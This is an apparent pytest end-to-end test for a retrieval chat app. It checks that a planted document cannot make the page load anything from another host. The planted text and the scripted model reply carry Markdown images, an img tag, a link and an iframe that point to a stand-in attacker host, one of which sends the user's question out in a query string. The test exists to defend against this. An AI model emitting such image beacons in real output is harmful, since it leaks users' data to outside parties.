"""No request leaves the page for another host when a planted document is cited: its Markdown images, HTML
image tags and links, an answer that repeats them, and a question that carries an image are all shown as text.
Every request the page makes is watched at the browser (and any to another host is stopped there). The reply is
scripted (a real model cannot be made to repeat the image on cue); everything else is the real app."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

pytestmark = [pytest.mark.e2e]

HOST = "collect.attacker.example"
PLANTED = f"""# Orbit X2 air purifier: care

The Orbit X2 HEPA filter should be replaced every 90 days. ![status](https://{HOST}/md.png?q=QUESTION)
<img src="https://{HOST}/tag.png"> The pre-filter can be vacuumed once a week.
Details at [the care page](https://{HOST}/care) and <iframe src="https://{HOST}/frame"></iframe>.
"""
QUESTION = f"How often should the Orbit X2 HEPA filter be replaced? ![q](https://{HOST}/question.png)"


# Behind `slow` (make test-slow, which CI runs after make test): one of the longest tests of the default run,
# which must stay under 10 minutes on 2 cores; faster tests in the default run cover the same code paths.
@pytest.mark.slow
def test_a_cited_planted_document_loads_nothing_from_another_host(
    scripted_app: Callable[..., Any],
    open_page: Callable[[str], Any],
    ask_and_wait: Callable[[Any, str], None],
    artifacts: Path,
) -> None:
    rig, app_url = scripted_app({"orbit_x2_care.md": PLANTED})
    page = open_page(app_url)
    remote: list[str] = []

    def watch(route: Any) -> None:
        url = route.request.url
        if urlsplit(url).hostname in ("127.0.0.1", "localhost") or url.startswith(("data:", "blob:")):
            route.continue_()
            return
        remote.append(url)
        route.abort()

    page.context.route("**/*", watch)  # from here on (the page itself came from the app)
    chat = page.locator("#chatbot")
    # The model repeats the document's image (its address is in the passage, so it is not removed as foreign)
    # and adds a tag of its own.
    rig.llm.enqueue(
        f'Every 90 days [1]. ![status](https://{HOST}/md.png?q=QUESTION) <img src="https://{HOST}/tag.png">'
    )
    ask_and_wait(page, QUESTION)
    chat.get_by_text("Every 90 days").first.wait_for()
    chat.get_by_text("[1] orbit_x2_care.md").last.click()  # open the citation: the planted passage itself
    chat.get_by_text("vacuumed once a week").last.wait_for(state="visible")
    page.wait_for_timeout(1000)  # give anything that would load the time to ask
    page.screenshot(path=str(artifacts / "no-remote-content.png"), full_page=True)

    assert remote == [], f"requests to other hosts: {remote}"
    assert chat.locator(f"img[src*='{HOST}'], iframe[src*='{HOST}'], a[href*='{HOST}']").count() == 0
    assert HOST in chat.inner_text()  # shown as text, so the reader sees where it pointed
